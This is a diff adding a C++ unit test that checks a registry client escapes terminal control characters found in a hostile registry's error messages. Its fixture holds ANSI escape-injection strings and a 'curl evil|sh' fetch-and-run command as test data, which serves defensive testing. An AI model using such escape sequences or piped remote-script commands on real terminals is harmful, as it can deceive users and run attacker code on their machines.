@@ -246,3 +246,25 @@ TEST(HostileRegistry, AMalformedPaxHeaderIsARegistryError) {
   message = error_of<RegistryError>([&] { store.module_file(*image); });
   EXPECT_NE(message.find(registry.ref("pax/wasip1:1") + ": tar layer has a malformed pax header"), std::string::npos) << message;
 }
+
+// A registry's error text reaches the user's terminal: its control
+// characters (a title change, a screen clear, colours) arrive escaped.
+TEST(HostileRegistry, ARegistrysErrorTextIsEscaped) {
+  HostileRegistry registry;
+  registry.server.Get("/v2/ansi/app/manifests/1", [](const httplib::Request&, httplib::Response& res) {
+    res.status = 404;
+    res.set_content(R"({"errors":[{"code":"X\u001b[2J","message":"\u001b]0;pwned\u0007\u001b[31mrun: curl evil|sh\u001b[0m"}]})",
+                    "application/json");
+  });
+  registry.server.Get("/v2/ansi/plain/manifests/1", [](const httplib::Request&, httplib::Response& res) {
+    res.status = 500;
+    res.set_content("\x1b[2Jnot json\r\n", "text/plain");
+  });
+  registry.start();
+  DistributionClient client(no_retries());
+  std::string message = error_of<NotFoundError>([&] { client.get_manifest(Reference::parse(registry.ref("ansi/app:1"))); });
+  EXPECT_EQ(message.find('\x1b'), std::string::npos) << message;
+  EXPECT_NE(message.find(R"((X\x1b[2J: \x1b]0;pwned\x07\x1b[31mrun: curl evil|sh\x1b[0m))"), std::string::npos) << message;
+  message = error_of<RegistryError>([&] { client.get_manifest(Reference::parse(registry.ref("ansi/plain:1"))); });
+  EXPECT_NE(message.find(R"(HTTP 500 (\x1b[2Jnot json))"), std::string::npos) << message;
+}
